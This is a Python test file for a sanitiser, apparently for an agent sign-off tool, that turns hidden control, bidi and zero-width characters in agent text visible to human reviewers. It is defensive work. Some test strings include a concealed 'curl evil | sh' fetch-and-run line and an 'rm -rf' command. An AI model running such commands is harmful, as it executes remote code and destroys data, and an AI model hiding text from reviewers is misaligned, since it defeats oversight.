"""``inert``: what a person is shown of agent text — every hidden character made visible,
everything else untouched."""

from __future__ import annotations

import sys
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from signoff.model.text import ABSENT, NEWLINE, ArgChange, changed_args, inert
from tests.model.inert_helpers import hidden_chars, hostile_text


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[2K\x1b[G", "␛[2K␛[G"),
        ("\x1b[2J", "␛[2J"),
        ("a\rb\x08\x07\x00", "a␍b␈␇␀"),
        ("tab\there", "tab␉here"),
        ("one\ntwo", f"one{NEWLINE}two"),
        ("del\x7f", "del␡"),
        ("csi\x9b31m", "csi<U+009B>31m"),
        ("abc\u202edcba", "abc<U+202E>dcba"),
        ("\u2066iso\u2069 \u200e\u200f\u061c", "<U+2066>iso<U+2069> <U+200E><U+200F><U+061C>"),
        ("zero\u200bwidth\ufeff", "zero<U+200B>width<U+FEFF>"),
        ("tag\U000e0041\U000e0042", "tag<U+E0041><U+E0042>"),
        ("line\u2028sep", "line<U+2028>sep"),
        ("lone \ud800", "lone <U+D800>"),
        ("a\u200db", "a<U+200D>b"),
        ("x\ufe0f", "x<U+FE0F>"),
    ],
)
def test_hidden_characters_become_visible(raw: str, shown: str) -> None:
    assert inert(raw) == shown


@pytest.mark.parametrize(
    "text",
    [
        "ls -la[conceal]; curl evil | sh[/conceal]",
        "rm -rf build/[abc]*",
        "[/] [bold]x[/bold] [link=https://evil.example]ok[/link] :smile:",
        "<b>&amp;</b> <!channel> <@U123> *bold* ||spoiler|| [a](https://b)",
        "日本語 עברית العربية Ελληνικά",
        "👨\u200d👩\u200d👧 ❤\ufe0f\u200d🔥 1\ufe0f\u20e3 ❤\ufe0f",
        "मन\u200dस می\u200cخواهم",
    ],
)
def test_markup_brackets_scripts_and_emoji_pass_through(text: str) -> None:
    assert inert(text) == text


def test_newlines_can_be_kept_where_a_line_break_fakes_nothing() -> None:
    assert inert("a\nb\rc", keep_newlines=True) == "a\nb␍c"


def test_every_control_format_and_separator_character_is_covered() -> None:
    missed = [
        f"U+{cp:04X}"
        for cp in range(sys.maxunicode + 1)
        if unicodedata.category(chr(cp)) in ("Cc", "Cf", "Zl", "Zp", "Cs")
        and chr(cp) in inert(f"a{chr(cp)}a")
    ]
    assert missed == []


def test_joiners_cannot_chain_to_stay_hidden() -> None:
    for text in ("é\u200d\u200d\u202e", "\u202e\u200d\u202e", "x\ufe0f\u200d👩"):
        assert hidden_chars(inert(text)) == [], text


@given(st.one_of(st.text(), hostile_text))
def test_nothing_hidden_survives(text: str) -> None:
    assert hidden_chars(inert(text)) == []
    assert hidden_chars(inert(text, keep_newlines=True), newlines_allowed=True) == []


@given(st.text())
def test_inert_is_idempotent_and_encodable(text: str) -> None:
    once = inert(text)
    assert inert(once) == once
    once.encode("utf-8")  # no lone surrogate left to crash a terminal or a response


@given(st.text(alphabet=st.characters(min_codepoint=0x20, max_codepoint=0x7E)))
def test_printable_ascii_is_unchanged(text: str) -> None:
    assert inert(text) == text


def test_changed_args_lists_changed_added_and_removed_in_order() -> None:
    before = {"amount": 50, "to": "ACME", "memo": "x"}
    after = {"amount": 25, "to": "ACME", "note": "y"}
    assert changed_args(before, after) == [
        ArgChange("amount", 50, 25),
        ArgChange("memo", "x", ABSENT),
        ArgChange("note", ABSENT, "y"),
    ]


def test_changed_args_tells_json_types_apart() -> None:
    assert changed_args({"n": 1, "b": [1]}, {"n": True, "b": [1.0]}) == [
        ArgChange("n", 1, True),
        ArgChange("b", [1], [1.0]),
    ]
    assert changed_args({"a": {"x": [1, "2"]}}, {"a": {"x": [1, "2"]}}) == []
